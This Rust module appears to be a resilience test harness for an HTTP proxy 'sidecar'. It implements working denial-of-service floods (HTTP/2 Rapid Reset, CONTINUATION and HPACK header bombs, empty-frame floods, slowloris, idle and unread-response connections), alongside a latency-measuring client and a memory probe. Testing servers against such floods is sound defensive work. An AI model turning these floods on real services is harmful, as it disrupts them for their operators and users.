//! Callers who mean harm, by the names of what they do; and a polite one beside them.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::Instant;

use crate::caller::{self, Caller, request};
use crate::frames::{END_HEADERS, END_STREAM, Frames, GET, NEWEST, frame, indexed_literal, kind, literals};

/// What somebody floods a sidecar with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// Streams that the server has to reset (CVE-2025-8671).
    MadeReset,
    /// A field section that never ends (RUSTSEC-2024-0332).
    Continuation,
    /// Fields of one byte that stand for thousands (CVE-2026-47774).
    HeaderBomb,
    /// As many fields as a byte each can be, of calls that are taken back at once.
    TinyFields,
    /// Frames of data without any (RUSTSEC-2026-0258).
    EmptyData,
    /// Heads that never end, a byte at a time.
    SlowHeads,
    /// Connections on which nothing happens any more.
    Idle,
}

/// A caller who makes one call after another until he is told to stop.
#[derive(Debug)]
pub struct Polite {
    stop: Arc<AtomicBool>,
    calls: JoinHandle<anyhow::Result<Vec<Duration>>>,
}

/// What is asked for, by a path on which calls may be batched.
const PATH: &str = "/users/7";
/// Connections of a flood at one time, unless it is one of connections.
const AT_ONCE: usize = 4;

impl Flood {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::MadeReset,
        Self::Continuation,
        Self::HeaderBomb,
        Self::TinyFields,
        Self::EmptyData,
        Self::SlowHeads,
        Self::Idle,
    ];

    /// Floods an address. Whoever is cut off comes back, until all was sent; connections that are not cut off
    /// are returned, still open.
    ///
    /// # Errors
    /// When nobody listens there any more.
    pub async fn run(self, address: SocketAddr) -> io::Result<Vec<TcpStream>> {
        match self {
            // 100,000 frames or 64 MiB each, but where the sender is made to wait.
            Self::RapidReset => self.frames(address, 50, 2_000).await,
            Self::MadeReset => self.frames(address, 50, 2_000).await,
            Self::Continuation => self.frames(address, 16, 256).await,
            Self::HeaderBomb => self.frames(address, 16, 25).await,
            Self::TinyFields => self.frames(address, 16, 50).await,
            Self::EmptyData => self.frames(address, 10, 10_000).await,
            Self::SlowHeads => connections(address, 1_000, b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ").await,
            Self::Idle => connections(address, 5_000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n").await,
        }
    }

    /// Whether it is the connections that are many, and they stay open.
    pub const fn stays_open(self) -> bool {
        matches!(self, Self::SlowHeads | Self::Idle)
    }

    /// Does for a while what keeps connections open: a further byte of each head.
    pub async fn keep_up(self, open: &mut [TcpStream]) {
        if self == Self::SlowHeads {
            for stream in open {
                // Who is cut off is cut off.
                drop(stream.write_all(b"a").await);
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    /// So many connections with so many pieces each, a few at a time.
    async fn frames(
        self,
        address: SocketAddr,
        connections: usize,
        pieces: u32,
    ) -> io::Result<Vec<TcpStream>> {
        let mut going = JoinSet::new();
        for _ in 0..connections {
            if going.len() == AT_ONCE {
                going.join_next().await;
            }
            let (mut read, mut write) = Frames::connect(address).await?.split();
            going.spawn(async move {
                let reader =
                    tokio::spawn(async move { tokio::io::copy(&mut read, &mut tokio::io::sink()).await });
                for piece in 0..pieces {
                    // Who is cut off has had his answer.
                    if write.write_all(&self.piece(piece)).await.is_err() {
                        break;
                    }
                }
                drop(write);
                drop(reader.await);
            });
        }
        going.join_all().await;
        Ok(Vec::new())
    }

    /// What is sent for the `n`th time.
    fn piece(self, n: u32) -> Vec<u8> {
        let stream = 2 * n + 1;
        let fields = literals(&[&GET[..3], &[(":path", PATH)]].concat());
        let opened = |flags| frame(kind::HEADERS, flags, stream, &fields);
        let reset = || frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        match self {
            Self::RapidReset => [opened(END_HEADERS | END_STREAM), reset()].concat(),
            Self::MadeReset => {
                let nothing = frame(kind::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
                [opened(END_HEADERS), nothing].concat()
            }
            Self::Continuation if n == 0 => opened(0),
            Self::Continuation => {
                let more = literals(&[("x-more", "0123456789abcdef")]).repeat(640);
                frame(kind::CONTINUATION, 0, 1, &more)
            }
            Self::HeaderBomb => {
                let bomb = indexed_literal("x-bomb", &"b".repeat(3_900));
                let block = [fields, bomb, vec![NEWEST; 12_000]].concat();
                frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)
            }
            Self::TinyFields => {
                let tiny = indexed_literal("a", "");
                let block = [fields, tiny, vec![NEWEST; 1_800]].concat();
                let opened = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
                [opened, reset()].concat()
            }
            Self::EmptyData if n == 0 => opened(END_HEADERS),
            Self::EmptyData => frame(kind::DATA, 0, 1, &[]),
            Self::SlowHeads | Self::Idle => Vec::new(),
        }
    }
}

/// So many connections that begin with these bytes; a call that is whole is answered first.
async fn connections(address: SocketAddr, count: usize, begin: &'static [u8]) -> io::Result<Vec<TcpStream>> {
    let mut open = Vec::new();
    while open.len() < count {
        let mut going = JoinSet::new();
        for _ in 0..100 {
            let mut stream = caller::connect(address).await?;
            going.spawn(async move {
                stream.write_all(begin).await?;
                if begin.ends_with(b"\r\n\r\n") {
                    stream.read_u8().await?;
                }
                Ok::<_, io::Error>(stream)
            });
        }
        for stream in going.join_all().await {
            open.push(stream?);
        }
    }
    Ok(open)
}

/// Asks for a path a thousand and a half times on each of so many connections, and reads nothing.
///
/// # Errors
/// When nobody listens there.
pub async fn unread(address: SocketAddr, path: &str, connections: usize) -> io::Result<Vec<TcpStream>> {
    let asked = format!("GET {path} HTTP/1.1\r\nhost: {address}\r\n\r\n").repeat(1_500);
    let mut held = Vec::new();
    for _ in 0..connections {
        let socket = TcpSocket::new_v4()?;
        // The least that the system allows: its end is to be stuck soon.
        socket.set_recv_buffer_size(1)?;
        let stream = socket.connect(address).await?;
        stream.writable().await?;
        stream.try_write(asked.as_bytes())?;
        held.push(stream);
    }
    Ok(held)
}

impl Polite {
    /// Begins to call.
    pub fn start(address: SocketAddr) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let told = Arc::clone(&stop);
        let calls = tokio::spawn(async move {
            let (mut caller, mut took) = (Caller::h1(address).await?, Vec::new());
            loop {
                let began = Instant::now();
                let answer = caller.call(request("GET", "/", &[], "")).await?;
                anyhow::ensure!(answer.status == 200, "a polite caller got {}", answer.status);
                took.push(began.elapsed());
                if told.load(Ordering::Relaxed) {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            Ok(took)
        });
        Self { stop, calls }
    }

    /// Stops; how long each call took, the shortest first.
    ///
    /// # Panics
    /// If a call failed.
    pub async fn stop(self) -> Vec<Duration> {
        self.stop.store(true, Ordering::Relaxed);
        let took = self.calls.await.expect("it stops when told");
        let mut took = took.expect("every polite call is served");
        took.sort_unstable();
        took
    }
}

/// Bytes of memory that a process has.
///
/// # Panics
/// If the process is gone.
pub fn memory(pid: u32) -> usize {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("the process runs");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let kib = line
        .and_then(|line| line.trim().strip_suffix(" kB"))
        .and_then(|kib| kib.parse().ok());
    let kib: usize = kib.expect("a number of kB");
    kib * 1024
}
